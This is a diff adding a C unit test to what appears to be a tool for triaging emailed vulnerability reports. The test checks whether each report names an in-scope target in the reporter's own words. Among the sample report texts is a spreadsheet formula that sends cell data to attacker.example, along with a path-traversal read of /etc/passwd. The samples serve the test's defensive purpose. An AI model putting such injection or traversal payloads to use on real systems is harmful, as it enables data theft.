@@ -1316,6 +1316,52 @@ static void test_completeness_evidence(void **state)
 }
 
  /*
+  * The target in the reporter's own words: an asset URL or host, an
+  * endpoint's path, the product's sender address; not a URL inside a
+  * payload, not the security address, not quoted earlier mail (unless
+  * the mail is a forward).
+  */
+static void test_target_own_words(void **state)
+{
+    static const struct {
+	const char *subject;
+	const char *text;
+	int     target;
+    }       cases[] = {
+	{"Report", "Reflected XSS at https://www.callhub.io/search/?q=x in the q parameter.", 1},
+	{"Report", "The password reset on app.callhub.io never expires its links.", 1},
+	{"Stored XSS in /campaigns/edit", "Details below soon.", 1},
+	{"Report", "IDOR on the endpoint /v1/invoices/{id}/ returns any invoice.", 1},
+	{"Report", "The reminder mails sent from no-reply@callhub.io show the raw HTML.", 1},
+	{"Fwd: a customer's bug", "FYI.\n\n-----Original Message-----\nFrom: A <a@b.example>\n\n"
+	 "On https://app.callhub.io/agent/ other teams' notes show up.", 1},
+	{"Report", "I mailed security@callhub.io twice about it without an answer.", 0},
+	{"Report", "A cell set to =HYPERLINK(\"http://attacker.example/?d=\"&B1) runs when opened.", 0},
+	{"Report", "Traversal: the download returns the content of /etc/passwd.", 0},
+	{"Re: [SEC-9] IDOR", "Any news?\n\nOn Tue, 3 Mar 2026 at 09:00, R <r@x.example> wrote:\n"
+	 "> GET https://api.callhub.io/v1/notes/5/ gives others' notes\n", 0},
+	{"Re: [SEC-9] IDOR", "Any news?\n\n> I tried it on app.callhub.io yesterday.\n", 0},
+    };
+    struct sm_config cfg;
+    struct report r;
+    struct triage t;
+    size_t  i;
+
+    (void) state;
+    sm_config_init(&cfg);
+    assert_int_equal(strlist_add(&cfg.in_scope_domains, "callhub.io"), 0);
+    assert_int_equal(strlist_add(&cfg.in_scope_domains, "*.callhub.io"), 0);
+    for (i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
+	judge(&t, &r, cases[i].subject, cases[i].text, &cfg);
+	if (t.complete[ITEM_TARGET] != cases[i].target)
+	    fail_msg("case %zu: target %d, want %d", i, t.complete[ITEM_TARGET], cases[i].target);
+	triage_free(&t);
+	report_destroy(&r);
+    }
+    sm_config_free(&cfg);
+}
+
+ /*
   * Completeness as people write it: procedures in prose, lead-ins,
   * menu paths and commands (steps); impact with words between the actor
   * and the verb, hedged verbs, whose data, observed outages (impact);
@@ -1860,6 +1906,7 @@ int     main(void)
 	cmocka_unit_test(test_json_missing_order_and_bad_utf8),
 	cmocka_unit_test(test_target_by_version),
 	cmocka_unit_test(test_steps_and_poc),
+	cmocka_unit_test(test_target_own_words),
 	cmocka_unit_test(test_vocabularies),
 	cmocka_unit_test(test_hostile_input),
     };
